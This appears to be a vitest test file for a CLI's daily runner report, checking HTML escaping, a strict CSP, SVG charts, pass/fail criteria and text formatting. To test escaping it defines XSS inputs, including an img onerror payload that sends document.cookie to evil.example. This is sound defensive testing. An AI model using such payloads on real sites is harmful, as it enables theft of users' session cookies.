import { describe, expect, it } from 'vitest';
import { criterionRows, formatSpan, printable } from '#cli/report/format.js';
import { escapeHtml, renderReportHtml } from '#cli/report/render-html.js';
import { breakdownLines, renderReportText } from '#cli/report/render-text.js';
import { STALL_ROOT_CAUSES } from '#contracts/agent-events.js';
import { buildDailyReport, countBy, type RunnerEvents } from '#core/runner/report.js';
import { ago, aRun, aStall, HOUR, MINUTE, NOW } from '../support/runner-events.js';

const report = (events: Partial<RunnerEvents>) =>
  buildDailyReport({ stalls: [], runs: [], skipped: 0, ...events }, NOW);

const HOSTILE_HOST = '<script>alert("host")</script>';
const HOSTILE_EVIDENCE = `</td><img src=x onerror="fetch('https://evil.example/'+document.cookie)">`;

describe('HTML report', () => {
  const hostile = () =>
    report({
      stalls: [
        aStall({
          host: HOSTILE_HOST,
          environment: "prod' onmouseover='x",
          commandType: 'a&b',
          evidence: [HOSTILE_EVIDENCE],
        }),
        aStall({ ts: ago(3 * HOUR), rootCause: 'lock' }),
      ],
      runs: [aRun({ outcome: 'failure' })],
      notes: ['<b>note</b>'],
    });

  it('escapes every value taken from events: hosts, environments, command types, evidence, notes', () => {
    const html = renderReportHtml(hostile(), { sources: ['<evil>.jsonl'] });

    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('<b>');
    expect(html).not.toContain("prod' onmouseover");
    expect(html).toContain('&lt;script&gt;alert(&quot;host&quot;)&lt;/script&gt;');
    expect(html).toContain('&lt;/td&gt;&lt;img src=x onerror=&quot;fetch(&#39;https://evil.example/');
    expect(html).toContain('prod&#39; onmouseover=&#39;x');
    expect(html).toContain('a&amp;b');
    expect(html).toContain('&lt;evil&gt;.jsonl');
    expect(html).toContain('&lt;b&gt;note&lt;/b&gt;');
  });

  it('is self-contained: no script, no external resource, a CSP that forbids both', () => {
    const html = renderReportHtml(hostile(), { sources: ['f'] });

    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain(
      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`,
    );
    expect(html).not.toMatch(/<(script|link|iframe|object|embed|img)\b/i);
    expect(html).not.toMatch(/<[a-z][^>]*\s(src|href)=/i);
    expect(html).not.toMatch(/url\(|@import/i);
    // The only URL outside escaped event text is the SVG namespace, which is never fetched.
    const urls = html.replace(/&#39;https:\/\/evil\.example\//g, '').match(/https?:\/\/[^"'\s]+/g) ?? [];
    expect(new Set(urls)).toEqual(new Set(['http://www.w3.org/2000/svg']));
  });

  it('draws stalls per hour stacked by root cause, runs per hour and four breakdown charts', () => {
    const built = report({
      stalls: [
        aStall({ ts: ago(30 * MINUTE), rootCause: 'network' }),
        aStall({ ts: ago(31 * MINUTE), rootCause: 'io_wait' }),
        aStall({ ts: ago(5 * HOUR + 30 * MINUTE), rootCause: 'network' }),
      ],
      runs: [aRun({ ts: ago(10 * MINUTE) }), aRun({ ts: ago(11 * MINUTE), outcome: 'failure' })],
    });
    const html = renderReportHtml(built, { sources: ['f'] });
    const svgs = html.match(/<svg[\s\S]*?<\/svg>/g) ?? [];

    expect(svgs).toHaveLength(6);
    const [stallsPerHour, runsPerHour] = svgs;
    // One segment per (hour, root cause) with stalls: the last hour has network + io_wait, 06:30 network.
    expect(stallsPerHour?.match(/<rect /g)).toHaveLength(3);
    expect(stallsPerHour).toContain('<title>11:00–12:00 UTC: 1 io_wait (of 2)</title>');
    expect(stallsPerHour).toContain('<title>06:00–07:00 UTC: 1 network (of 1)</title>');
    expect(runsPerHour).toContain('<title>11:00–12:00 UTC: 1 not success (of 2)</title>');
    for (const field of ['rootCause', 'environment', 'host', 'commandType'])
      expect(html).toContain(`aria-label="Stalls by ${field}"`);
    for (const cause of STALL_ROOT_CAUSES) expect(html).toContain(`</i>${cause}</span>`);
  });

  it('shows the verdict and each criterion with its result', () => {
    const html = renderReportHtml(report({ runs: [aRun({ durationMs: 75_000 })] }), { sources: ['f'] });
    expect(html).toContain('<span class="badge fail">FAIL</span>');
    expect(html).toMatch(
      /<tr><td>P95 execution duration<\/td><td>75 s<\/td><td>&lt; 60 s<\/td><td class="fail">FAIL<\/td>/,
    );
    expect(html).toContain('<td class="pass">pass</td>');
  });

  it('escapeHtml covers the five characters that matter', () => {
    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
      '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
    );
  });
});

describe('text report', () => {
  it('shows n/a rows and says which criteria had no data', () => {
    const text = renderReportText(report({}));
    for (const label of [
      'Stall rate (5 min window)',
      'P95 execution duration',
      'Auto-skip events (24 h)',
      'Failure rate (10 min window)',
    ]) {
      expect(text).toMatch(new RegExp(`${label.replace(/[()]/g, '\\$&')}\\s+n/a\\s+<[^\\n]*\\s+n/a\\s`));
    }
    expect(text).toContain(
      'Result: PASS; no data: Stall rate (5 min window), P95 execution duration, Auto-skip events (24 h), Failure rate (10 min window)',
    );
    expect(text).toContain('Stalls by host\n  (no stalls)');
  });

  it('names the worst windows in the detail column', () => {
    const stalls = [aStall({ ts: '2026-05-14T09:58:00.000Z' }), aStall({ ts: '2026-05-14T10:01:00.000Z' })];
    const rows = criterionRows(report({ stalls, runs: [aRun({ ts: '2026-05-14T10:00:00.000Z' })] }));
    expect(rows[0]?.detail).toBe('2 stalls in 2026-05-14 09:56:00–10:01:00 UTC (worst sliding window)');
    expect(rows[3]?.detail).toBe(
      '0 of 1 run not success in 2026-05-14 09:50:00–10:00:00 UTC (worst sliding window)',
    );
  });

  it('cuts breakdowns at the top values and sums up the rest', () => {
    const stalls = ['a', 'a', 'a', 'b', 'b', 'c', 'd'].map((host) => aStall({ host }));
    expect(breakdownLines(countBy(stalls, 'host'), 2)).toEqual([
      '  a                 3  42.9 %',
      '  b                 2  28.6 %',
      '  (2 other values)  2  28.6 %',
    ]);
  });

  it('formats spans across midnight with both dates and escapes control characters', () => {
    expect(formatSpan({ from: '2026-05-13T23:58:00.000Z', to: '2026-05-14T00:03:00.000Z' })).toBe(
      '2026-05-13 23:58:00–2026-05-14 00:03:00 UTC',
    );
    expect(printable('a\u001b[31mb\nc\u2028')).toBe('a\\u001b[31mb\\u000ac\\u2028');
  });
});
